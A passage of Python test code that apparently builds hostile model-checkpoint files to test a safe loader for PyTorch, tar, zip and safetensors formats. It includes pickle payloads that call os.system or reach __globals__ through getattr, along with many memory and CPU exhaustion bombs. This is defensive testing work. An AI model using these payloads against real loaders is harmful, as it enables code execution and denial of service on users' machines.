    keys: bytes = b"\x80\x02]U\x010a.",
    storages: bytes = struct.pack("<q", 4) + bytes(16),
) -> bytes:
    return MAGIC + VERSION + system + data + keys + storages


LEGACY_STORAGE = STORAGE.replace(b"tQ", b"NtQ")


@attack(loads=True)
def legacy_plain(canary: str) -> bytes:
    return torch_legacy(state_dict(tensor(storage=LEGACY_STORAGE)))


@attack()
def legacy_reduce(canary: str) -> bytes:
    return torch_legacy(reduce_posix(canary))


@attack()
def legacy_reduce_in_system_info(canary: str) -> bytes:
    return torch_legacy(state_dict(tensor(storage=LEGACY_STORAGE)), system=reduce_posix(canary))


@attack()
def legacy_reduce_in_keys(canary: str) -> bytes:
    return torch_legacy(state_dict(tensor(storage=LEGACY_STORAGE)), keys=reduce_posix(canary))


@attack()
def legacy_storage_of_exabytes(canary: str) -> bytes:
    storages = struct.pack("<q", 2**60) + bytes(16)
    return torch_legacy(state_dict(tensor(storage=LEGACY_STORAGE)), storages=storages)


@attack()
def legacy_storage_negative(canary: str) -> bytes:
    storages = struct.pack("<q", -4) + bytes(16)
    return torch_legacy(state_dict(tensor(storage=LEGACY_STORAGE)), storages=storages)


@attack()
def legacy_storage_not_listed(canary: str) -> bytes:
    data = state_dict(tensor(storage=LEGACY_STORAGE))
    return torch_legacy(data, keys=b"\x80\x02].", storages=b"")


# The module's source in the file, as PyTorch wrote it then.
@attack()
def legacy_module_source(canary: str) -> bytes:
    return torch_legacy(b"\x80\x02(U\x06moduleU\x01aU\x01aU\x09import ostQ.")


# One array half a million times in a list, at the end of a path of three thousand characters.
@attack()
def array_repeated_at_the_end_of_a_long_path(canary: str) -> bytes:
    key = b"U\x7f" + b"k" * 127
    repeated = b"]q\x02(" + array_pickle() + b"q\x01" + b"h\x01" * 450_000 + b"e"
    return b"\x80\x02}" + (key + b"}") * 22 + key + repeated + b"s" * 23 + b"."


# One class a hundred thousand times, whose module's name has a thousand characters.
@attack(loads=True)
def class_named_a_hundred_thousand_times(canary: str) -> bytes:
    names = b"X\xe8\x03\x00\x00" + b"m" * 1000 + b"q\x05X\x07\x00\x00\x00Counterq\x06"
    repeated = b"](" + names + b"h\x05h\x06\x93" * 100_000 + b"e"
    return b"\x80\x04}U\x01w" + array_pickle() + b"sU\x01l" + repeated + b"s."


# A key that is a tuple of eight texts of a thousand characters, in ten thousand dicts.
@attack(loads=True)
def key_of_long_parts_in_many_dicts(canary: str) -> bytes:
    part = b"X\xe8\x03\x00\x00" + b"m" * 1000 + b"q\x05"
    repeated = b"]((" + part + b"h\x05" * 7 + b"tq\x06" + b"}h\x06Ns" * 10_000 + b"e"
    return b"\x80\x04}U\x01w" + array_pickle() + b"sU\x01l" + repeated + b"s."


# --- PyTorch's tar archives of before 0.1.10 ----------------------------------------------------


def member(name: str, data: bytes, size: bytes | None = None) -> bytes:
    """Return a tar archive's header and data, without what fills the last block."""
    digits = b"%011o" % len(data) if size is None else size
    header = name.encode().ljust(124, b"\0") + digits.ljust(12, b"\0")
    return header.ljust(257, b"\0") + b"ustar".ljust(255, b"\0") + data


def whole(*members: bytes) -> bytes:
    return b"".join(part + bytes(-len(part) % 512) for part in members)


TAR_STORAGE = b"\x80\x02K\x07U\x03cpuctorch\nFloatStorage\n\x87." + struct.pack("<q", 4) + bytes(16)
TAR_TENSOR = b"\x80\x02K\x09K\x07ctorch\nFloatTensor\n\x87."
TAR_NAMES = b"\x80\x02}U\x01aU\x019Qs."


def torch_tar(
    *,
    names: bytes = TAR_NAMES,
    storage: bytes = TAR_STORAGE,
    views: bytes = b"\x80\x02].",
    tensor: bytes = TAR_TENSOR,
    axes: bytes = struct.pack("<q", 2),
    shape: bytes = struct.pack("<5q", 2, 2, 2, 1, 0),
    count: bytes = b"\x80\x02K\x01.",
) -> bytes:
    return whole(
        member("././@PaxHeader", b"20 mtime=1484150000.5"),
        member("sys_info", b"\x80\x02}."),
        member("pickle", names),
        member("tensors", b"\x80\x02K\x01." + tensor + axes + shape),
        member("storages", count + storage + views),
    )


@attack(loads=True)
def tar_plain(canary: str) -> bytes:
    return torch_tar()


# A parameter of PyTorch before 0.4: whether it has a gradient, is volatile, and its hooks.
@attack(loads=True)
def tar_parameter(canary: str) -> bytes:
    made = b"ctorch.nn.parameter\nParameter\nU\x019Q\x85R(\x88\x89ccollections\nOrderedDict\n)Rtb"
    return torch_tar(names=b"\x80\x02}U\x01a" + made + b"s.")


@attack()
def tar_reduce(canary: str) -> bytes:
    return torch_tar(names=reduce_posix(canary))


@attack()
def tar_reduce_in_storages(canary: str) -> bytes:
    return torch_tar(storage=reduce_posix(canary))


@attack()
def tar_reduce_in_count(canary: str) -> bytes:
    return torch_tar(count=reduce_posix(canary))


@attack()
def tar_reduce_in_tensors(canary: str) -> bytes:
    return torch_tar(tensor=reduce_posix(canary))


@attack()
def tar_storage_of_exabytes(canary: str) -> bytes:
    return torch_tar(storage=TAR_STORAGE[:-24] + struct.pack("<q", 2**60) + bytes(16))


@attack()
def tar_storage_negative(canary: str) -> bytes:
    return torch_tar(storage=TAR_STORAGE[:-24] + struct.pack("<q", -4) + bytes(16))


# The file claims more storages than the file has bytes.
@attack()
def tar_count_of_billions(canary: str) -> bytes:
    return torch_tar(count=b"\x80\x02\x8a\x08" + struct.pack("<q", 2**62) + b".")


@attack()
def tar_count_that_is_none(canary: str) -> bytes:
    return torch_tar(count=b"\x80\x02}.")


@attack()
def tar_views_of_storages(canary: str) -> bytes:
    return torch_tar(views=b"\x80\x02](K\x08K\x07K\x00K\x02ta.")


@attack()
def tar_key_that_is_a_list_in_itself(canary: str) -> bytes:
    key = b"]q\x00h\x00a"
    return torch_tar(storage=TAR_STORAGE.replace(b"K\x07", key, 1))


@attack()
def tar_tensor_of_255_axes(canary: str) -> bytes:
    numbers = struct.pack("<511q", *[1] * 510, 0)
    return torch_tar(axes=b"\xff" + bytes(7), shape=numbers)


@attack()
def tar_tensor_beyond_its_storage(canary: str) -> bytes:
    return torch_tar(shape=struct.pack("<5q", 2, 2, 2, 1, 1))


@attack()
def tar_tensor_with_negative_stride(canary: str) -> bytes:
    return torch_tar(shape=struct.pack("<5q", 2, 2, -2, 1, 2))


@attack()
def tar_tensor_of_no_storage(canary: str) -> bytes:
    return torch_tar(tensor=TAR_TENSOR.replace(b"K\x07", b"K\x08"))


@attack()
def tar_name_of_no_tensor(canary: str) -> bytes:
    return torch_tar(names=TAR_NAMES.replace(b"U\x019", b"U\x018"))


# Names of tensors may be no names of storages either.
@attack()
def tar_name_that_is_a_class_source(canary: str) -> bytes:
    return torch_tar(names=b"\x80\x02(U\x01aU\x01bU\x09import ostQ.")


# A size below zero would make a reader go in circles.
@attack()
def tar_member_of_negative_size(canary: str) -> bytes:
    return whole(member("sys_info", b"", b"-0000001000"), member("pickle", b""))


@attack()
def tar_member_of_exabytes(canary: str) -> bytes:
    return whole(member("sys_info", b"", b"\x80" + b"\0" * 3 + b"\xff" * 8))


@attack()
def tar_member_beyond_file(canary: str) -> bytes:
    return whole(member("storages", b"abc", b"00000077777"))


@attack()
def tar_of_many_members(canary: str) -> bytes:
    return b"".join(member(f"{i}", b"") for i in range(20_000))


@attack()
def tar_of_something_else(canary: str) -> bytes:
    return whole(member("model.pth", b"x"))


# --- safetensors --------------------------------------------------------------------------------


def safetensors(header: Any, data: bytes = bytes(16)) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def entry(**changes: Any) -> dict[str, Any]:
    return {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]} | changes


@attack(loads=True)
def safetensors_plain(canary: str) -> bytes:
    return safetensors({"a": entry()})


@attack()
def safetensors_huge_header(canary: str) -> bytes:
    return struct.pack("<Q", 20 << 20) + b"{" + b" " * (20 << 20) + b"}"


# Each of a name's parts may begin the network's own name.
@attack(loads=True)
def safetensors_name_of_many_parts(canary: str) -> bytes:
    return safetensors({"params." * 10_000: entry()})


@attack(loads=True)
def safetensors_name_of_many_digits(canary: str) -> bytes:
    wide = "blocks." + "9" * 5000 + ".x"
    patch = {"dtype": "F32", "shape": [1, 1, 2, 2], "data_offsets": [0, 16]}
    return safetensors({"patch_embed.proj.weight": patch, wide: entry(data_offsets=[16, 32])},
                       bytes(32))  # fmt: skip


@attack()
def safetensors_huge_shape(canary: str) -> bytes:
    return safetensors({"a": entry(shape=[2**62, 4])})


@attack()
def safetensors_beyond_end(canary: str) -> bytes:
    return safetensors({"a": entry(shape=[400], data_offsets=[0, 1600])})


@attack()
def safetensors_overlapping(canary: str) -> bytes:
    return safetensors({"a": entry(), "b": entry()})


@attack()
def safetensors_gap(canary: str) -> bytes:
    return safetensors({"a": entry(data_offsets=[4, 20])}, bytes(20))


@attack()
def safetensors_backwards(canary: str) -> bytes:
    return safetensors({"a": entry(shape=[0], data_offsets=[16, 0])})


@attack()
def safetensors_strange_dtype(canary: str) -> bytes:
    return safetensors({"a": entry(dtype="O")})


@attack()
def safetensors_deep_json(canary: str) -> bytes:
    return safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")


@attack()
def safetensors_negative(canary: str) -> bytes:
    return safetensors({"a": entry(shape=[-2, -2])})


@attack()
def safetensors_trailing_bytes(canary: str) -> bytes:
    return safetensors({"a": entry()}) + b"more"


# --- Classes that are not read ------------------------------------------------------------------

BIG = b"](" + b"N" * 50_000 + b"eq\x05"
INERT = b"cargparse\nNamespace\n"


# What an inert class is called with runs like anything else: it must not.
@attack(runs=True)
def inert_called_with_a_call(canary: str) -> bytes:
    return b"\x80\x02" + INERT + b")\x81}U\x01acos\nsystem\n(" + line(touch(canary)) + b"tRsb."


# Its state becomes nothing, so nothing of it may be reached: getattr of an instance.
@attack()
def inert_reached_into(canary: str) -> bytes:
    reach = b"c__builtin__\ngetattr\n" + INERT + b"U\x0b__globals__\x86R"
    return b"\x80\x02" + reach + b"(U\x02ostR."


# getattr is for inert classes alone.
@attack()
def getattr_of_ndarray(canary: str) -> bytes:
    return b"\x80\x02c__builtin__\ngetattr\ncnumpy\nndarray\nU\x05dumps\x86R."


@attack()
def reconstructor_of_ndarray(canary: str) -> bytes:
    return b"\x80\x02ccopy_reg\n_reconstructor\n(cnumpy\nndarray\nc__builtin__\nobject\nNtR."


# One list thrown away a hundred thousand times: each time somebody may count it.
@attack()
def inert_states_repeated(canary: str) -> bytes:
    return b"\x80\x02" + INERT + b")\x81" + BIG + b"b" + b"h\x05b" * 100_000 + b"."


# The same through a state that doubles.
@attack()
def inert_state_doubling(canary: str) -> bytes:
    bomb = b"N\x85" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(60))
    return b"\x80\x02" + INERT + b")\x81" + bomb + b"b."


# Tuples of numbers can be chosen to have one hash.
@attack()
def keys_of_deep_tuples(canary: str) -> bytes:
    return b"\x80\x02}N\x85\x85\x85K\x01s."


# A dict that stands in itself a million times, arrays and all.
@attack(loads=True)
def dicts_doubling(canary: str) -> bytes:
    first = b"}U\x01a" + array_pickle() + b"sq\x00"
    rest = b"".join(b"}(U\x01ah%cU\x01bh%cuq%c" % (i, i, i + 1) for i in range(40))
    return b"\x80\x02}U\x01x](" + first + rest + b"es."


# One megabyte of text under many names.
@attack(loads=True)
def one_text_many_names(canary: str) -> bytes:
    text = b"X" + struct.pack("<I", 1_000_000) + b"\xc3\xa9" * 500_000 + b"q\x01"
    names = b"".join(short_unicode(f"b{i}") + b"h\x01" for i in range(50_000))
    return b"\x80\x04}(U\x01a" + array_pickle() + short_unicode("t") + text + names + b"u."


# Forty texts of one wide character each, four times as large in memory.
@attack(loads=True)
def many_wide_texts(canary: str) -> bytes:
    text = b"X" + struct.pack("<I", 1_000_000) + b"\xf0\x9f\x98\x80" + b"a" * 999_996
    names = b"".join(short_unicode(f"b{i}") + text for i in range(40))
    return b"\x80\x04}(U\x01a" + array_pickle() + names + b"u."


# A directory of hundreds of megabytes of names.
@attack()
def zip_directory_of_long_names(canary: str) -> bytes:
    entry_ = b"PK\x01\x02" + bytes(24) + struct.pack("<HHH", 60_000, 0, 0) + bytes(12)
    directory = (entry_ + b"n" * 60_000) * 400
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 400, 400, len(directory), 4, 0)
    return b"PK\x03\x04" + directory + end


# Encrypted records would be read as they lie.
@attack()
def torch_encrypted(canary: str) -> bytes:
    data = bytearray(torch_zip(state_dict(tensor())))
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


# Views of one storage, forty times the file: each of them is the whole storage.
@attack()
def torch_one_storage_many_names(canary: str) -> bytes:
    count = 1 << 20
    size = b"J" + struct.pack("<i", count)
    storage = STORAGE.replace(b"K\x04tQ", size + b"tQ")
    item = tensor(storage=storage, shape=size + b"\x85")
    names = b"".join(b"U\x03" + f"{i:03}".encode() + item for i in range(40))
    return torch_zip(b"\x80\x02}(" + names + b"u.", **{"data/0": bytes(4 * count)})


# Strides whose sum wraps around.
@attack()
def torch_huge_strides(canary: str) -> bytes:
    stride = b"\x8a\x09" + b"\0" * 8 + b"\x01"
    return torch_zip(state_dict(tensor(shape=b"K\x02\x85", strides=stride + b"\x85")))


# A type of one byte over a storage of another.
@attack()
def torch_newer_type_of_unknown_size(canary: str) -> bytes:
    item = tensor().replace(b"_rebuild_tensor_v2", b"_rebuild_tensor_v3")
    return torch_zip(state_dict(item))
